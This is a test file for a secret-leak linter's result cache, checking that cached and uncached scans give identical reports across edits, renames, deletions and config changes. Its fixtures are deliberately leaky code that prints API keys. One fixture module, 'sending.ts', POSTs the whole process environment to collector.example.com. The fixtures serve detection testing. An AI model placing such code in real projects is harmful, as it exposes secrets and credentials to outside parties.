// The result cache never changes a report: after each change to the tree (edits, a rename, a
// deletion, a registry edit, a config edit), a scan through the cache gives the same JSON and
// SARIF bytes as a scan without it, while the cache does serve the unchanged files.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { cacheProject, REGISTRY, reports, write } from './tree.js';

const CACHE = { enabled: true };

describe('cached and uncached reports are byte-identical', () => {
  it('across edits, renames, deletions, registry and config changes', async () => {
    const root = cacheProject();
    const first = await reports(root, CACHE);
    const plain = await reports(root, undefined);
    expect(first.json).toBe(plain.json);
    expect(first.sarif).toBe(plain.sarif);
    expect(first.hits).toBe(0);
    // The fixture has what the cache must carry: a TS leak across two files, Python and Rust findings.
    const ids = (JSON.parse(plain.json) as { findings: Array<{ ruleId: string; file: string }> }).findings.map((f) => `${f.ruleId} ${f.file}`);
    expect(ids.some((id) => id.startsWith('no-secret') && id.endsWith('src/log.ts'))).toBe(true);
    expect(ids.some((id) => id.endsWith('app/worker.py'))).toBe(true);
    expect(ids.some((id) => id.endsWith('crate/src/main.rs'))).toBe(true);

    // Exported constants are not stored (only their names), yet resolved as without the cache.
    expect(fs.readFileSync(path.join(root, '.clavis-lint-cache/results.json'), 'utf8')).not.toContain('quokka-constant-value');
    expect(ids).toContain('no-direct-env-read src/read.ts');

    const steps: Array<[string, () => void]> = [
      ['unchanged', () => {}],
      ['the file reading a constant edited', () => write(root, 'src/read.ts', "import { KEY_NAME } from '~/keys';\n\nexport const value = process.env[KEY_NAME];\n")],
      ['an unrelated TS file edited', () => write(root, 'src/other.ts', "export const greeting = (name: string): string => `hi ${name}`;\n")],
      ['an unrelated file now imports the source module', () => write(root, 'src/other.ts', "import { openAiKey } from './config';\n\nexport const show = (): void => console.log(openAiKey());\n")],
      ['an unrelated file now names a source', () => write(root, 'src/other.ts', 'export const leak = (): void => console.log(process.env.STRIPE_SECRET_KEY);\n')],
      ['the leak source edited', () => write(root, 'src/config.ts', "export function openAiKey(): string {\n  return process.env.STRIPE_SECRET_KEY ?? '';\n}\n")],
      ['a file renamed', () => fs.renameSync(path.join(root, 'src/log.ts'), path.join(root, 'src/logger.ts'))],
      ['a file deleted', () => fs.rmSync(path.join(root, 'app/worker.py'))],
      ['the Rust file edited', () => write(root, 'crate/src/main.rs', 'fn main() {\n    let k = std::env::var("STRIPE_SECRET_KEY").unwrap();\n    eprintln!("{}", k);\n}\n')],
      ['the registry edited', () => write(root, 'secrets.registry.yaml', REGISTRY.replace('    kind: secret\n  - id: StripeKey', '    kind: config\n  - id: StripeKey'))],
      ['the config edited', () => write(root, '.clavis-lint.yaml', 'registry: secrets.registry.yaml\nrules: { no-direct-env-read: off }\n')],
    ];
    for (const [name, change] of steps) {
      change();
      const cached = await reports(root, CACHE);
      const uncached = await reports(root, undefined);
      expect(cached.json, name).toBe(uncached.json);
      expect(cached.sarif, name).toBe(uncached.sarif);
      // The cache did its part: unchanged files served, and the leak pass kept when the edit cannot change it.
      if (name === 'unchanged' || name === 'an unrelated TS file edited') {
        expect(cached.hits, name).toBeGreaterThan(0);
        expect(cached.leakHit, name).toBe(true);
      }
      if (['an unrelated file now imports the source module', 'an unrelated file now names a source', 'the leak source edited'].includes(name)) expect(cached.leakHit, name).toBe(false);
    }
  });
});

describe('a file outside the leak Program', () => {
  // It imports only a name of the source module that hands no secret on, so it is no root; an
  // edit that also imports a name that does, from the same module, keeps its import specifiers.
  it('becomes a root when it starts to import an export that hands a secret on', async () => {
    const root = cacheProject();
    write(root, 'src/config.ts', "export const BATCH_SIZE = 10;\n\nexport function openAiKey(): string {\n  return process.env.OPENAI_API_KEY ?? '';\n}\n");
    write(root, 'src/batch.ts', "import { BATCH_SIZE } from './config';\n\nexport const batches = (n: number): number => Math.ceil(n / BATCH_SIZE);\n");
    const first = await reports(root, CACHE);
    expect(first.json).toBe((await reports(root, undefined)).json);
    write(root, 'src/batch.ts', "import { BATCH_SIZE, openAiKey } from './config';\n\nexport const batches = (n: number): number => Math.ceil(n / BATCH_SIZE);\nexport const show = (): void => console.log(openAiKey());\n");
    const cached = await reports(root, CACHE);
    const uncached = await reports(root, undefined);
    expect(uncached.json).toContain('src/batch.ts');
    expect(cached.json).toBe(uncached.json);
    // An edit that names neither the module nor a name it hands on keeps the stored pass.
    write(root, 'src/other.ts', 'export const greeting = (name: string): string => `hey ${name}`;\n');
    const kept = await reports(root, CACHE);
    expect(kept.leakHit).toBe(true);
    expect(kept.json).toBe((await reports(root, undefined)).json);
  });
});

describe('re-analyses of the cross-file passes through the cache', () => {
  it('are served on an unchanged scan and give the uncached report after the helper or a caller changes', async () => {
    const root = cacheProject();
    // A TS env helper other files call with key names, and the environment handed to another file's function.
    write(root, 'src/env-helper.ts', 'export function requireEnv(name: string): string {\n  return process.env[name] ?? "";\n}\n');
    write(root, 'src/settings.ts', 'export function readSettings(env: NodeJS.ProcessEnv) {\n  return { port: env.APP_PORT };\n}\n');
    write(root, 'src/caller.ts', "import { requireEnv } from './env-helper';\nimport { readSettings } from './settings';\n\nexport const key = requireEnv('STRIPE_SECRET_KEY');\nexport const settings = readSettings(process.env);\n");
    const first = await reports(root, CACHE);
    expect(first.json).toBe((await reports(root, undefined)).json);
    expect(first.json).toContain('through requireEnv()');
    const stored = JSON.parse(fs.readFileSync(path.join(root, '.clavis-lint-cache/results.json'), 'utf8')) as { reanalyses?: Record<string, unknown> };
    expect(Object.keys(stored.reanalyses ?? {}).map((key) => key.split('\0')[0]).sort()).toEqual(['src/caller.ts', 'src/settings.ts']);
    const steps: Array<[string, () => void]> = [
      ['unchanged', () => {}],
      ['the caller passes another name', () => write(root, 'src/caller.ts', "import { requireEnv } from './env-helper';\n\nexport const key = requireEnv('OPENAI_API_KEY');\n")],
      ['the helper is no longer exported', () => write(root, 'src/env-helper.ts', 'function requireEnv(name: string): string {\n  return process.env[name] ?? "";\n}\nexport const unused = requireEnv;\n')],
    ];
    for (const [name, change] of steps) {
      change();
      const cached = await reports(root, CACHE);
      expect(cached.json, name).toBe((await reports(root, undefined)).json);
    }
  });
});

describe('a file that starts with a byte-order mark', () => {
  // The front end decodes without the mark; a cross-file pass that reads the file from disk must
  // too, or a re-analysis served through the cache puts line 1's findings one column further.
  it('is re-analysed by a cross-file pass with the text the front end saw, cached or not', async () => {
    const root = cacheProject();
    const BOM = '\uFEFF';
    write(root, 'app/helpers.py', `${BOM}def show(value): print("value", value)\ndef other(value): print("other", value)\n`);
    write(root, 'app/main.py', 'import os\nfrom helpers import other\n\nother(os.environ["OPENAI_API_KEY"])\n');
    const first = await reports(root, CACHE);
    expect(first.json).toBe((await reports(root, undefined)).json);
    // The caller now asks for another function's summary: the helper is analysed again, its own analysis served from the cache.
    write(root, 'app/main.py', 'import os\nfrom helpers import show\n\nshow(os.environ["OPENAI_API_KEY"])\n');
    const cached = await reports(root, CACHE);
    const uncached = await reports(root, undefined);
    const helperFindings = (JSON.parse(uncached.json) as { findings: Array<{ file: string; line: number; column: number }> }).findings.filter((f) => f.file === 'app/helpers.py');
    expect(helperFindings.map((f) => [f.line, f.column])).toEqual([[1, 33]]);
    expect(cached.hits).toBeGreaterThan(0);
    expect(cached.json).toBe(uncached.json);
  });
});

describe('a Python environment copy judged at its callers in other modules', () => {
  it('gives the uncached report through the cache when a caller starts to send the copy elsewhere, and back', async () => {
    const root = cacheProject();
    write(root, 'tools/envs.py', 'import os\n\n\ndef child_env():\n    env = os.environ.copy()\n    env["NO_COLOR"] = "1"\n    return env\n');
    const inherits = 'import subprocess\n\nfrom tools.envs import child_env\n\n\ndef run(cmd):\n    subprocess.run(cmd, env=child_env())\n';
    write(root, 'tools/run.py', inherits);
    const enumerated = (json: string): boolean => (JSON.parse(json) as { findings: Array<{ ruleId: string; file: string }> }).findings.some((f) => f.ruleId === 'no-dynamic-env-read' && f.file === 'tools/envs.py');
    const first = await reports(root, CACHE);
    expect(first.json).toBe((await reports(root, undefined)).json);
    expect(enumerated(first.json)).toBe(false);
    const steps: Array<[string, () => void, boolean]> = [
      ['unchanged', () => {}, false],
      ['a caller prints the copy', () => write(root, 'tools/run.py', `${inherits}\n\ndef show():\n    print(child_env())\n`), true],
      ['the caller inherits again', () => write(root, 'tools/run.py', inherits), false],
      ['the helper file edited', () => write(root, 'tools/envs.py', 'import os\n\n\ndef child_env():\n    env = os.environ.copy()\n    return env\n'), false],
    ];
    for (const [name, change, reported] of steps) {
      change();
      const cached = await reports(root, CACHE);
      expect(cached.json, name).toBe((await reports(root, undefined)).json);
      expect(enumerated(cached.json), name).toBe(reported);
    }
  });
});

describe('the environment handed to a function of a workspace package', () => {
  it('gives the uncached report through the cache when the package manifest points elsewhere, and back', async () => {
    const root = cacheProject();
    const manifest = (main: string): string => `{ "name": "@acme/shared", "main": "${main}" }\n`;
    write(root, 'packages/shared/package.json', manifest('dist/index.js'));
    write(root, 'packages/shared/src/index.ts', "export { withBuildEnv } from './build-env';\n");
    write(root, 'packages/shared/src/build-env.ts', "export function withBuildEnv(env: NodeJS.ProcessEnv): NodeJS.ProcessEnv {\n  return { ...env, BUILD: 'prod' };\n}\n");
    write(root, 'packages/shared/src/sending.ts', "export function withBuildEnv(env: NodeJS.ProcessEnv): void {\n  void fetch('https://collector.example.com', { method: 'POST', body: JSON.stringify(env) });\n}\n");
    write(root, 'apps/hub/src/connect.ts', "import { spawn } from 'node:child_process';\nimport { withBuildEnv } from '@acme/shared';\n\nspawn('acme', ['connect'], { env: withBuildEnv(process.env) });\n");
    const enumerated = (json: string): boolean => (JSON.parse(json) as { findings: Array<{ ruleId: string; file: string }> }).findings.some((f) => f.ruleId === 'no-dynamic-env-read' && f.file === 'apps/hub/src/connect.ts');
    const steps: Array<[string, () => void, boolean]> = [
      ['first', () => {}, false],
      ['unchanged', () => {}, false],
      ['the manifest points at a module that sends the environment', () => write(root, 'packages/shared/package.json', manifest('dist/sending.js')), true],
      ['and back', () => write(root, 'packages/shared/package.json', manifest('dist/index.js')), false],
    ];
    for (const [name, change, reported] of steps) {
      change();
      const cached = await reports(root, CACHE);
      expect(cached.json, name).toBe((await reports(root, undefined)).json);
      expect(enumerated(cached.json), name).toBe(reported);
    }
  });
});
